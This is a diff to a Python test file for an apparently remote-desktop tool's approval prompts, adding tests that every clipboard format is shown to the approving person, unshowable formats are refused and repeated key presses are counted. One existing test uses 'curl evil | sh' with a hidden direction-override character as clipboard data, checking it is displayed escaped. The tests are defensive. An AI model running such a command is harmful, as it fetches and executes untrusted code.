@@ -12,6 +12,7 @@ import pytest
 
 from computer_linker.approvals.approvals import Approvals
 from computer_linker.computer.facets.accessibility import ElementId
+from computer_linker.computer.facets.clipboard import Clip
 from computer_linker.computer.facets.files import Change, Copy, MakeFolder, Move, Remove, Write
 from computer_linker.computer.facets.processes import Launch
 from computer_linker.computer.remote.computer import RemoteComputer
@@ -116,7 +117,7 @@ async def test_a_click_does_not_land_on_another_window_that_lies_there_by_then(d
     assert await desk.refused(lambda: desk.far.pointer.click(AT)) == "conflict"
     assert desk.events() == []
     (event,) = [one for one in await events_of(desk.pair.laptop, "input.click") if one["errorCode"] == "conflict"]
-    assert event["principal"] == "peer:desk-id"
+    assert event["principal"] == desk.pair.caller
 
 
 async def test_a_click_that_waited_behind_another_client_is_looked_at_again(desk: Far) -> None:
@@ -210,6 +211,40 @@ async def test_text_for_the_clipboard_is_shown_as_text(desk: Far) -> None:
     """Bytes travel beside the request, where only their digest stands."""
     told = await desk.asked(lambda: desk.far.clipboard_set_text("curl evil | sh\u202e"))
     assert "curl evil | sh\\u202e" in told and desk.near.world.clip.forms == {}
+
+
+async def test_every_form_of_a_clipboard_text_is_shown(desk: Far) -> None:
+    """Found: of several forms the person saw `text/plain` alone, and most programs paste another one."""
+    names = ("text/plain", "text/plain;charset=utf-8", "text/html", "UTF8_STRING", "text/uri-list")
+    forms = {name: f"form {at}\u202e".encode() for at, name in enumerate(names)}
+    told = await desk.asked(lambda: desk.far.clipboard.write(Clip(forms)))
+    for at, name in enumerate(names):
+        assert f"of {name} on the clipboard\nas text:\nform {at}\\u202e" in told
+    assert desk.near.world.clip.forms == {}
+
+
+@pytest.mark.parametrize(
+    ("kind", "raw"),
+    [
+        ("application/x-shell", b"ls"), ("text/plain", b"\xff\xfe"), ("text/plain;charset=utf-16", b"ls"),
+        ("image/png", b"ls"), ("image/svg+xml", b"<svg/>"),
+    ],
+)  # fmt: skip
+async def test_a_clipboard_form_that_cannot_be_shown_is_refused_unasked(desk: Far, kind: str, raw: bytes) -> None:
+    act = lambda: desk.far.clipboard.write(Clip({"text/plain;charset=utf-8": b"seen", kind: raw}))  # noqa: E731
+    assert await desk.refused(act) == "permission_denied"
+    assert desk.people.waiting() == [] and desk.near.world.clip.forms == {}
+
+
+async def test_a_picture_for_the_clipboard_is_shown_by_its_digest_and_is_put_there(desk: Far) -> None:
+    clip = Clip({"image/png": b"\x89PNG\r\n\x1a\n" + b"rest"})
+    assert "a picture, sha256 " in await desk.yes(lambda: desk.far.clipboard.write(clip))
+    await desk.far.clipboard.write(clip)
+    assert desk.near.world.clip == clip
+
+
+async def test_repeated_keys_are_shown_with_their_number(desk: Far) -> None:
+    assert "presses x 40 times" in await desk.asked(lambda: desk.far.keyboard.press(["x"], count=40))
 
 
 async def test_starting_an_application_shows_it_and_what_it_opens(desk: Far, tmp_path: Path) -> None:
